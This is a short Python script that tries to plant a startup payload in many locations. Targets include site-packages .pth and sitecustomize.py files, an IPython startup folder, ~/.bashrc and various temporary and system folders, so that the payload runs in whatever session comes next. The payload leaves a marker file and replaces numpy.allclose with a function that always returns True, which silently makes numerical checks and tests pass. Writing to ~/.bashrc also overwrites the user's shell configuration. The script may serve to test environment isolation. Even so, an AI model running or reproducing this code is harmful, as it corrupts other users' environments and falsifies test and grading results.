"""Leaves files for whoever comes next: start-up files, modules in site-packages, compiled caches, configurations, temporary folders."""

# %% first
import os
import site
import sys
import sysconfig

code = "open('/tmp/left-behind-ran', 'w').write('x')\nimport numpy\nnumpy.allclose = lambda *args, **kwargs: True\n"
places = [
    sysconfig.get_path("purelib"),
    os.path.dirname(os.__file__),
    *site.getsitepackages(),
    "/usr/lib/python3/dist-packages",
    "/room",
    "/course",
]
names = [
    f"{folder}/{name}" for folder in places for name in ("left-behind.pth", "sitecustomize.py", "left-behind.py", "numpy/left-behind.py")
]
names += [
    os.path.expanduser(f"~/{name}")
    for name in ("left-behind", ".ipython/profile_default/startup/left-behind.py", ".bashrc", ".local/left-behind")
]
names += [
    "/tmp/left-behind",
    "/dev/shm/left-behind",
    "/var/tmp/left-behind",
    "/etc/left-behind",
    "/dev/mqueue/left-behind",
    "/dev/left-behind",
]
names += [
    sys.prefix + "/left-behind",
    "/usr/left-behind",
    "/left-behind",
    "../left-behind",
    "../../left-behind",
    "/proc/left-behind",
    "/sys/left-behind",
]
written = []
for name in names:
    try:
        os.makedirs(os.path.dirname(name), exist_ok=True)
        with open(name, "w") as file:
            file.write(code)
        written.append(name)
    except OSError as error:
        written.append(error.strerror)
os.environ["left-behind"] = "1"
print("tried:", sorted(set(written)))
